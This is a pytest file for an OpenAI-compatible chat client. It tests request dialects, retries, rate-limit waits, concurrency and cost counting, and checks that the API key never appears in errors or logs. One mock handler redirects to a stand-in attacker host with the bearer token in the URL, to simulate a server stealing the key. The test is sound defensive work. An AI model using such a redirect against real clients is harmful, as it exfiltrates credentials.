"""Requests to an endpoint: dialects, retries, counts, and a key that nobody sees."""

from __future__ import annotations

import asyncio
import logging
import traceback
from typing import Any

import pytest
from aiohttp import web
from support.endpoints import Asked, Handler, chat_body, endpoint, refusal, saying

from palaestra.agents.engines.base import ContextFullError
from palaestra.agents.engines.openai import client as client_module
from palaestra.agents.engines.openai.address import parse_address
from palaestra.agents.engines.openai.answers import ChatAnswer
from palaestra.agents.engines.openai.client import Client
from palaestra.agents.engines.openai.dialect import Ask
from palaestra.agents.engines.openai.key import read_key
from palaestra.agents.engines.openai.limits import ApiLimits, Prices
from palaestra.agents.engines.openai.usage import Usage
from palaestra.errors import EngineError

KEY = "sk-very-secret-0123456789"


def ask(**changes: Any) -> Ask:
    settings = {"temperature": 1.0, "top_p": 1.0, "top_k": 0, "max_tokens": 16, "seed": 2**62 + 5, "tokens": 50}
    return Ask(content={"messages": [{"role": "user", "content": "hi"}]}, logprobs=True, **settings | changes)


def talk(
    handler: Handler, *asks: Ask, at_once: bool = False, client: dict[str, Any] | None = None, **limits: Any
) -> tuple[list[ChatAnswer | BaseException], list[Asked], Usage]:
    """Send the requests to such an endpoint; answers or errors, what it was asked, what was counted."""
    usage = Usage()

    async def go(url: str) -> list[ChatAnswer | BaseException]:
        speaker = Client(parse_address(f"openai:m@{url}"), limits=ApiLimits(**limits), **client or {})
        try:
            if at_once:
                return list(await asyncio.gather(*(speaker.chat(a, usage) for a in asks), return_exceptions=True))
            return [(await asyncio.gather(speaker.chat(a, usage), return_exceptions=True))[0] for a in asks]
        finally:
            await speaker.close()

    with endpoint(handler) as served:
        return asyncio.run(go(served.url)), served.asked, usage


def error_of(handler: Handler, *asks: Ask, **settings: Any) -> str:
    answers, _, _ = talk(handler, *asks or (ask(),), **settings)
    assert isinstance(answers[-1], EngineError), answers
    text = str(answers[-1])
    assert "\n" not in text
    assert len(text) < 600
    return text


def fast(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("palaestra.agents.engines.openai.retrying.FIRST_WAIT", 0.001)


def test_the_richest_dialect_asks_for_token_ids_and_plain_sampling() -> None:
    _, asked, usage = talk(saying("look"), ask(temperature=0.5, top_p=0.9, top_k=7))
    body = asked[0].body
    assert asked[0].path == "/v1/chat/completions"
    assert body["model"] == "m"
    assert body["messages"] == [{"role": "user", "content": "hi"}]
    assert (body["temperature"], body["top_p"], body["top_k"], body["max_tokens"]) == (0.5, 0.9, 7, 16)
    assert (body["return_token_ids"], body["logprobs"]) == (True, True)
    assert (body["min_p"], body["repetition_penalty"]) == (0.0, 1.0), "or a server's own defaults would hold"
    assert body["seed"] == (2**62 + 5) % 2**31
    assert (usage.requests, usage.prompt_tokens, usage.cached_tokens, usage.completion_tokens) == (1, 100, 40, 10)


@pytest.mark.parametrize(
    ("refused", "status", "fields"),
    [
        ({"return_token_ids"}, 400, {"max_tokens", "seed", "temperature"}),
        ({"return_token_ids", "seed"}, 422, {"max_tokens", "temperature"}),
        ({"return_token_ids", "max_tokens"}, 400, {"max_completion_tokens"}),
    ],
)
def test_the_first_request_finds_the_dialect(refused: set[str], status: int, fields: set[str]) -> None:
    async def handler(asked: Asked) -> web.StreamResponse:
        if odd := refused & set(asked.body):
            return refusal(status, f"Unrecognized request argument supplied: {sorted(odd)[0]}")
        return web.json_response(chat_body())

    answers, asked, usage = talk(handler, *[ask()] * 5, at_once=True)
    assert all(isinstance(answer, ChatAnswer) for answer in answers)
    last = [a.body for a in asked][-5:]
    assert all(fields <= set(body) and not refused & set(body) for body in last)
    assert usage.requests == 5
    assert len(asked) <= 8, "found out once, not by each"


def test_a_request_that_no_dialect_mends_is_told() -> None:
    async def handler(asked: Asked) -> web.StreamResponse:
        return refusal(400, "messages: too\nshort")

    assert error_of(handler).endswith("refuses the request: messages: too short")


@pytest.mark.parametrize(
    ("message", "code"),
    [
        ("This model's maximum context length is 2048 tokens. However, you requested 3000", ""),
        ("The prompt is too long: 9000 tokens", ""),
        ("Your input exceeds the context window of this model", ""),
        ("no", "context_length_exceeded"),
        ("The decoder prompt (length 5000) is longer than the maximum model length", "400"),
    ],
)
def test_a_full_context_is_an_error_of_its_own(message: str, code: str) -> None:
    async def handler(asked: Asked) -> web.StreamResponse:
        return refusal(400, message, code)

    answers, asked, _ = talk(handler, ask())
    assert isinstance(answers[0], ContextFullError)
    assert len(asked) == 1


@pytest.mark.parametrize("status", [408, 409, 425, 429, 500, 502, 503, 504, 529])
def test_what_may_help_is_sent_again(status: int, monkeypatch: pytest.MonkeyPatch) -> None:
    fast(monkeypatch)

    async def handler(asked: Asked) -> web.StreamResponse:
        return refusal(status, "busy") if asked.number < 3 else web.json_response(chat_body())

    (answer,), asked, usage = talk(handler, ask())
    assert isinstance(answer, ChatAnswer)
    assert (len(asked), usage.retries, usage.requests) == (4, 3, 1)


def test_a_connection_that_breaks_is_made_again(monkeypatch: pytest.MonkeyPatch) -> None:
    fast(monkeypatch)

    async def handler(asked: Asked) -> web.StreamResponse:
        if asked.number in (1, 2):
            assert asked.http.transport is not None
            asked.http.transport.abort()
        return web.json_response(chat_body())

    answers, _, usage = talk(handler, ask(), ask())
    assert all(isinstance(answer, ChatAnswer) for answer in answers)
    assert usage.retries == 2


def test_retries_end(monkeypatch: pytest.MonkeyPatch) -> None:
    fast(monkeypatch)

    async def handler(asked: Asked) -> web.StreamResponse:
        return refusal(503, "overloaded")

    assert error_of(handler, retries=2).endswith("answers with status 503: overloaded (3 tries)")


def test_the_wait_that_is_asked_for_is_kept_by_all() -> None:
    async def handler(asked: Asked) -> web.StreamResponse:
        if asked.number == 1:
            return refusal(429, "slow down", **{"Retry-After": "0.3"})
        return web.json_response(chat_body())

    async def go(url: str) -> float:
        client, usage = Client(parse_address(f"openai:m@{url}"), limits=ApiLimits(concurrency=1)), Usage()
        await client.chat(ask(), usage)
        loop = asyncio.get_running_loop()
        began = loop.time()
        await asyncio.gather(*(client.chat(ask(), usage) for _ in range(3)))
        await client.close()
        return loop.time() - began

    with endpoint(handler) as served:
        assert 0.3 <= asyncio.run(go(served.url)) < 5


def test_a_wait_that_is_too_long_is_told() -> None:
    async def handler(asked: Asked) -> web.StreamResponse:
        return refusal(429, "slow down", **{"Retry-After": "3600"})

    assert "asks to wait 3600 s, and 60 s is the most" in error_of(handler)


@pytest.mark.parametrize(
    ("status", "code", "told"),
    [
        (401, "invalid_api_key", "wants an API key, and none was sent"),
        (403, "", "wants an API key, and none was sent"),
        (404, "model_not_found", "does not have 'm': no"),
        (429, "insufficient_quota", "answers with status 429: no"),
        (418, "", "answers with status 418: no"),
    ],
)
def test_what_cannot_help_is_not_sent_again(status: int, code: str, told: str) -> None:
    async def handler(asked: Asked) -> web.StreamResponse:
        return refusal(status, "no", code)

    answers, asked, _ = talk(handler, ask())
    assert told in str(answers[0])
    assert len(asked) == 1


def test_nobody_there_is_told_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    async def go() -> tuple[str, float]:
        client = Client(parse_address("openai:m@http://127.0.0.1:9"))
        loop = asyncio.get_running_loop()
        began = loop.time()
        errors = [await asyncio.gather(client.chat(ask(), Usage()), return_exceptions=True) for _ in range(100)]
        await client.close()
        assert all(isinstance(error, EngineError) for (error,) in errors)
        return str(errors[-1][0]), loop.time() - began

    told, seconds = asyncio.run(go())
    assert told.startswith("127.0.0.1:9 cannot be reached: ")
    assert seconds < 3
    monkeypatch.setattr(client_module, "LOST_SECONDS", 0.0)
    assert asyncio.run(go())[0].startswith("127.0.0.1:9 cannot be reached: ")


def test_not_more_at_once_than_allowed() -> None:
    now = most = 0

    async def handler(asked: Asked) -> web.StreamResponse:
        nonlocal now, most
        now += 1
        most = max(most, now)
        await asyncio.sleep(0.02)
        now -= 1
        return web.json_response(chat_body())

    answers, _, usage = talk(handler, *[ask()] * 20, at_once=True, concurrency=3)
    assert all(isinstance(answer, ChatAnswer) for answer in answers)
    assert (most, usage.requests) == (3, 20)


def test_costs_are_counted_and_what_is_not_told_too() -> None:
    async def handler(asked: Asked) -> web.StreamResponse:
        body = chat_body()
        if asked.number:
            del body["usage"]
        return web.json_response(body)

    _, _, usage = talk(handler, ask(), ask(), client={"prices": Prices(10.0, 20.0, 1.0)})
    assert (usage.requests, usage.uncounted, usage.completion_tokens) == (2, 1, 10)
    assert usage.cost == pytest.approx((60 * 10 + 40 * 1 + 10 * 20) / 1e6)


def test_closed_is_closed() -> None:
    async def go() -> None:
        client = Client(parse_address("openai:m@http://127.0.0.1:9"))
        await client.close()
        await client.close()
        await client.chat(ask(), Usage())

    with pytest.raises(EngineError, match="the engine is closed"):
        asyncio.run(go())


ECHOES: list[Handler] = []


def echo(handler: Handler) -> Handler:
    ECHOES.append(handler)
    return handler


@echo
async def in_a_refusal(asked: Asked) -> web.StreamResponse:
    return refusal(401, f"Incorrect API key: {asked.headers['Authorization']}")


@echo
async def in_a_page(asked: Asked) -> web.StreamResponse:
    return web.Response(text=f"<html>{asked.headers['Authorization']}", status=502)


@echo
async def in_a_redirect(asked: Asked) -> web.StreamResponse:
    return web.Response(status=307, headers={"Location": f"http://evil.example/?{asked.headers['Authorization'][7:]}"})


@echo
async def across_the_cut_of_a_refusal(asked: Asked) -> web.StreamResponse:
    return refusal(401, f"{'x' * 290}{asked.headers['Authorization'][7:]}")


@echo
async def across_the_cut_of_a_page(asked: Asked) -> web.StreamResponse:
    return web.Response(text=f"{' ' * 990}{asked.headers['Authorization'][7:]}", status=502)


@echo
async def across_the_cut_of_a_redirect(asked: Asked) -> web.StreamResponse:
    return web.Response(status=307, headers={"Location": f"{'x' * 290}{asked.headers['Authorization'][7:]}"})


@echo
async def in_wrong_types(asked: Asked) -> web.StreamResponse:
    return web.json_response({"choices": asked.headers["Authorization"], KEY: KEY})


@pytest.mark.parametrize("handler", ECHOES)
def test_the_key_is_sent_and_never_shown(
    handler: Handler, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    caplog.set_level(logging.DEBUG)
    key = read_key(parse_address("openai:m"))
    (error,), asked, _ = talk(handler, ask(), client={"key": key}, retries=0)
    assert asked[0].headers["Authorization"] == f"Bearer {KEY}"
    assert isinstance(error, EngineError)
    told = [str(error), repr(error), caplog.text, *traceback.format_exception(error)]
    assert KEY[:6] not in "".join(told)
